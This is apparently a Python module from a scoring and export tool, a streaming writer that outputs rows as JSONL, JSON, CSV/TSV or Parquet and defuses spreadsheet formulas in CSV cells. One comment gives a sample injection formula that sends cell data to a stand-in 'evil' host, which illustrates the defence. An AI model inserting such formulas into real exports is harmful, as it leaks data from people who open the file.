"""The one table writer: rows out as JSONL, JSON, CSV/TSV or Parquet, chunk by chunk.

`duelist score` (scored files) and `duelist export` (preference pairs) both write
tables; each used to have its own writer per format. `TableWriter` is the one, written
into the temp file of `engine/files/atomic.py`'s `atomic_file`; its two knobs keep
each output as it was: `json_indent` (exports are indented JSON, scored files one
record per line) and `cell` (what a CSV cell becomes: a scored file JSON-encodes
nested values; an export also defuses spreadsheet formulas, `formula_safe`).

Why streaming: scoring used to hold its whole input as Python dicts (1.5 GB for a
200 MB JSONL). Now the input is read twice, a chunk at a time: a first pass checks
every row and learns every column (and, for Parquet, one schema for all rows); the
second pass scores a chunk and writes it. Memory is bounded by the chunk, not by
the file.

Why a schema pass for Parquet: `pa.Table.from_pylist` takes its columns from the
first row, so a column missing there was dropped, and a column of mixed types
failed only after all the scoring. Here every column is kept and a mix that
Parquet cannot store is refused before the model loads.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import IO, Any

from duelist.engine.errors import InputError


class SchemaCollector:
    """The Arrow schema of all rows, merged chunk by chunk (Parquet output only)."""

    def __init__(self, path: str) -> None:
        self.path = path
        self.schemas: list[Any] = []

    def add(self, rows: Sequence[dict[str, Any]], fields: Sequence[str], first_row: int) -> None:
        self.schemas.append(_table(rows, fields, None, self.path, first_row).schema)

    def schema(self, fields: Sequence[str]) -> Any:
        import pyarrow as pa

        try:
            merged = pa.unify_schemas(self.schemas, promote_options="permissive")
        except (pa.ArrowInvalid, pa.ArrowTypeError, pa.ArrowNotImplementedError):
            for name in fields:  # name the column that cannot be merged
                parts = [s.field(name) for s in self.schemas if name in s.names]
                try:
                    pa.unify_schemas([pa.schema([f]) for f in parts],
                                     promote_options="permissive")
                except (pa.ArrowInvalid, pa.ArrowTypeError, pa.ArrowNotImplementedError):
                    raise _mixed(self.path, name, None) from None
            raise
        return pa.schema([merged.field(n) if n in merged.names else pa.field(n, pa.null())
                          for n in fields])


def _mixed(path: str, column: str, row: int | None) -> InputError:
    return InputError("column holds values of different types, which Parquet cannot store; "
                      "write .jsonl or .csv instead", path=path, row=row, column=column)


def _table(rows: Sequence[dict[str, Any]], fields: Sequence[str], schema: Any, path: str,
           first_row: int) -> Any:
    import pyarrow as pa

    data = {name: [r.get(name) for r in rows] for name in fields}
    try:
        return pa.Table.from_pydict(data, schema=schema)
    except (pa.ArrowInvalid, pa.ArrowTypeError, pa.ArrowNotImplementedError, OverflowError):
        for name in fields:
            try:
                pa.array(data[name], type=schema.field(name).type if schema else None)
            except (pa.ArrowInvalid, pa.ArrowTypeError, pa.ArrowNotImplementedError,
                    OverflowError):
                raise _mixed(path, name, first_row) from None
        raise


def _cell(value: Any) -> Any:
    return json.dumps(value, ensure_ascii=False) if isinstance(value, list | dict) else value


# A spreadsheet runs a cell that starts with one of these as a formula
# (`=HYPERLINK("http://evil/?"&A1)` leaks data on click; `@SUM(...)`, `+`, `-` likewise;
# a leading tab or CR hides the prefix). OWASP's advice: prefix such cells with `'`.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_safe(value: object) -> object:
    """A text cell that a spreadsheet would evaluate, prefixed with `'` so it stays text."""
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def arrow_table(rows: Sequence[dict[str, Any]], fields: Sequence[str], schema: Any,
                path: str = "", first_row: int = 1) -> Any:
    """Rows as an Arrow table with `schema` (one line naming the column that cannot fit)."""
    return _table(rows, fields, schema, path, first_row)


class TableWriter:
    """Writes chunks of rows to `tmp` in `fmt`; the column list is fixed at the first chunk.

    `fields` are the columns every row may have; `added` (per write) the ones a chunk
    adds after them (reward columns, Parquet type float64). `schema`: the Arrow schema
    of `fields`, needed for Parquet. Closing without any row writes an empty table of
    the format (a header, `[]`, an empty Parquet file with the schema).
    """

    def __init__(self, tmp: Path, fmt: str, fields: Sequence[str], schema: Any = None,
                 path: str = "", *, json_indent: int | None = None,
                 cell: Callable[[Any], Any] | None = None) -> None:
        self.tmp, self.fmt, self.fields, self.schema, self.path = tmp, fmt, list(fields), schema, path
        self.json_indent = json_indent
        self.cell = cell or _cell
        self.fh: IO[str] | None = None
        self.csv: Any = None
        self.pq: Any = None
        self.full_schema: Any = None
        self.first = True

    def write(self, rows: list[dict[str, Any]], added: Sequence[str] = (),
              first_row: int = 1) -> None:
        columns = self.fields + [a for a in added if a not in self.fields]
        if self.fmt == "parquet":
            self._parquet(rows, columns, first_row)
            return
        self._open(columns)
        assert self.fh is not None
        for rec in rows:
            if self.csv is not None:
                self.csv.writerow({k: self.cell(v) for k, v in rec.items()})
            elif self.fmt == "json":
                self.fh.write(("" if self.first else ",\n") + self._json_record(rec))
            else:
                self.fh.write(json.dumps(rec, ensure_ascii=False, default=str) + "\n")
            self.first = False

    def _json_record(self, rec: dict[str, Any]) -> str:
        text = json.dumps(rec, ensure_ascii=False, default=str, indent=self.json_indent)
        if self.json_indent is None:
            return text
        # as json.dump(list_of_rows, indent=N) lays out an item: one level in
        pad = " " * self.json_indent
        return "\n".join(pad + line for line in text.split("\n"))

    def _open(self, columns: list[str]) -> None:
        if self.fh is not None:
            return
        self.fh = self.tmp.open("w", encoding="utf-8", newline="")
        if self.fmt in ("csv", "tsv"):
            self.csv = csv.DictWriter(self.fh, fieldnames=columns,
                                      delimiter="\t" if self.fmt == "tsv" else ",")
            self.csv.writeheader()
        elif self.fmt == "json":
            self.fh.write("[\n")

    def _parquet(self, rows: list[dict[str, Any]], columns: list[str], first_row: int) -> None:
        import pyarrow as pa
        import pyarrow.parquet as pq

        if self.pq is None:
            extra = [pa.field(a, pa.float64()) for a in columns[len(self.fields):]]
            self.full_schema = pa.schema([*self.schema, *extra])
            self.pq = pq.ParquetWriter(str(self.tmp), self.full_schema)
        self.pq.write_table(_table(rows, self.full_schema.names, self.full_schema, self.path,
                                   first_row))

    def close(self) -> None:
        if self.first and self.fmt == "parquet" and self.pq is None and self.schema is not None:
            self._parquet([], list(self.fields), 1)  # no rows: still a file with the columns
        if self.pq is not None:
            self.pq.close()
        if self.first and self.fmt == "json":  # no rows: an empty list
            if self.fh is not None:
                self.fh.close()
            self.fh = None
            self.tmp.write_text("[]\n", encoding="utf-8")
            return
        if self.first and self.fmt in ("csv", "tsv"):
            self._open(list(self.fields))  # no rows: the header alone
        if self.fh is not None:
            if self.fmt == "json":
                self.fh.write("\n]\n")
            self.fh.close()
